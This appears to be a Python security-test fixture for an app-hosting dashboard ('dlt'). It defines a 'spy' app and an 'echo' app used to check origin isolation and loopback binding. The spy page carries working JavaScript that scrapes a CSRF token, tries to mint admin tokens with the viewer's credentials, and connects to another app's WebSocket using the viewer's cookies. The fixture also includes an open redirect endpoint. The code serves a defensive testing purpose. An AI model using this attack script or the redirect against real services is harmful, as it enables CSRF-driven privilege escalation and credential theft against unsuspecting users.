"""Apps attacks (docs/security.md, "Apps: their own origin, loopback only").

`apps_spy` serves a page whose JavaScript acts as whoever views it: it tries to read the
dashboard's Settings page (for its CSRF token), to mint an admin token with and without the
viewer's credentials, and to open a WebSocket to another app (`apps_echo`) with the viewer's
cookie for that app. It leaves what happened in `window.attack` and reports it to its own
log. It also redirects wherever it is told (`/go?to=…`), and `/echo` answers with the
headers it received.

Both apps bind every interface, as dlt's launchers do (`apps_spy` `0.0.0.0`, `apps_echo`
`::` dual-stack, falling back to `0.0.0.0` where IPv6 is off): the server must keep them on
loopback. Every request has the names of its cookies printed (`PROBE apps_cookies …`,
names only: a cookie's value may be a credential), so a test sees what reached the app.
"""

import base64
import hashlib
import http.server
import json
import socket
import urllib.parse

from dlt.hub import run

WS_GUID = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"

SPY_PAGE = """<!doctype html>
<html><head><meta charset="utf-8"><title>spy</title></head><body><p>a harmless app</p>
<script>
const q = new URLSearchParams(location.search);
const ws = q.get("ws") || "";
const bases = [""].concat((q.get("dash") || "").split(",").filter(Boolean));
const out = {};
async function attempt(name, fn) {
  try { out[name] = await fn(); } catch (e) { out[name] = "blocked"; }
}
function form(name, csrf) {
  return new URLSearchParams({name: name, role: "admin", scope: "all", csrf_token: csrf || ""});
}
(async () => {
  for (const [i, base] of bases.entries()) {
    let csrf = "";
    await attempt("read_" + i, async () => {
      const r = await fetch(base + "/ui/w/" + ws + "/settings", {credentials: "include"});
      const text = await r.text();
      const m = text.match(/name="csrf_token" value="([^"]+)"/);
      if (m) { csrf = m[1]; }
      return r.status + (m ? " csrf-read" : " no-csrf");
    });
    for (const creds of ["include", "omit"]) {
      await attempt("mint_" + i + "_" + creds, async () => {
        const r = await fetch(base + "/ui/w/" + ws + "/tokens", {
          method: "POST", credentials: creds, body: form("stolen-" + i + "-" + creds, csrf)});
        const text = await r.text();
        return r.status + (text.includes("new-token-value") ? " minted" : "");
      });
    }
    await attempt("mint_" + i + "_nocors", async () => {
      const r = await fetch(base + "/ui/w/" + ws + "/tokens", {
        method: "POST", mode: "no-cors", credentials: "include",
        body: form("stolen-" + i + "-nocors", csrf)});
      return r.type;
    });
  }
  await attempt("echo_ws", () => new Promise((resolve) => {
    const socket = new WebSocket(q.get("echo"));
    socket.onmessage = (e) => { resolve("open " + e.data); socket.close(); };
    socket.onclose = (e) => resolve("closed " + e.code);
    setTimeout(() => resolve("timeout"), 15000);
  }));
  await attempt("own_echo", async () => (await (await fetch("echo")).json()).cookie);
  await fetch("report", {method: "POST", body: JSON.stringify(out)});
  window.attack = out;
  document.title = "attack done";
})();
</script></body></html>
"""


class _Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    page = b"<!doctype html><title>echo</title><p>echo app</p>"
    cookies_seen: set[str] = set()

    def log_message(self, *args: object) -> None:
        return

    def _seen(self) -> str:
        cookie = self.headers.get("Cookie", "")
        names = {p.split("=", 1)[0].strip() for p in cookie.split(";") if p.strip()}
        type(self).cookies_seen |= names
        print(f"PROBE apps_cookies {','.join(sorted(self.cookies_seen)) or '-'}", flush=True)
        return cookie

    def _send(
        self, status: int, body: bytes, kind: str, extra: dict[str, str] | None = None
    ) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        for name, value in (extra or {}).items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:
        cookie = self._seen()
        url = urllib.parse.urlsplit(self.path)
        if url.path.endswith("/ws") and self.headers.get("Upgrade", "").lower() == "websocket":
            self._websocket(cookie)
        elif url.path.endswith("/echo"):
            seen = {"cookie": cookie, "headers": {k.lower(): v for k, v in self.headers.items()}}
            self._send(200, json.dumps(seen).encode(), "application/json")
        elif url.path.endswith("/go"):
            target = urllib.parse.parse_qs(url.query).get("to", ["/"])[0]
            self._send(302, b"", "text/plain", {"Location": target})
        elif url.path.endswith("/"):
            self._send(200, self.page, "text/html; charset=utf-8")
        else:
            self._send(404, b"not here", "text/plain")

    def do_POST(self) -> None:
        self._seen()
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        if self.path.endswith("/report"):
            for name, outcome in json.loads(body or b"{}").items():
                print(f"PROBE apps_spy_{name} {outcome}", flush=True)
        self._send(204, b"", "text/plain")

    def _websocket(self, cookie: str) -> None:
        """The smallest WebSocket server: the handshake, one text frame, a close frame."""
        key = self.headers.get("Sec-WebSocket-Key", "")
        accept = base64.b64encode(hashlib.sha1((key + WS_GUID).encode()).digest()).decode()
        self.send_response(101)
        self.send_header("Upgrade", "websocket")
        self.send_header("Connection", "Upgrade")
        self.send_header("Sec-WebSocket-Accept", accept)
        self.end_headers()
        names = ",".join(sorted({p.split("=", 1)[0].strip() for p in cookie.split(";") if p}))
        text = f"cookies={names or '-'}".encode()[:125]
        self.wfile.write(bytes([0x81, len(text)]) + text + bytes([0x88, 0x02, 0x03, 0xE8]))
        self.wfile.flush()
        self.close_connection = True


class _Server(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def server_bind(self) -> None:  # no reverse DNS lookup of the wildcard address
        if self.address_family == socket.AF_INET6:
            self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        self.socket.bind(self.server_address)
        self.server_address = self.socket.getsockname()
        self.server_name, self.server_port = "app", int(self.server_address[1])


class _Server6(_Server):
    address_family = socket.AF_INET6


def _serve(port: int, handler: type[_Handler], dual_stack: bool) -> None:
    server: _Server
    if dual_stack:
        try:
            server = _Server6(("::", port), handler)
        except OSError:  # no IPv6 here (a container without it): every IPv4 address instead
            server = _Server(("0.0.0.0", port), handler)
    else:
        server = _Server(("0.0.0.0", port), handler)
    print(f"PROBE apps_bound {server.server_address[0]}", flush=True)
    server.serve_forever()


class _Spy(_Handler):
    page = SPY_PAGE.encode()


@run.interactive(interface="gui")
def apps_spy(run_context):  # type: ignore[no-untyped-def]
    """A page whose JavaScript tries to act for its viewer; binds 0.0.0.0."""
    _serve(run_context["run_args"]["port"], _Spy, dual_stack=False)


@run.interactive(interface="gui")
def apps_echo(run_context):  # type: ignore[no-untyped-def]
    """Echoes what it receives (HTTP and one WebSocket message); binds `::` dual-stack."""
    _serve(run_context["run_args"]["port"], _Handler, dual_stack=True)


__all__ = ["apps_echo", "apps_spy"]
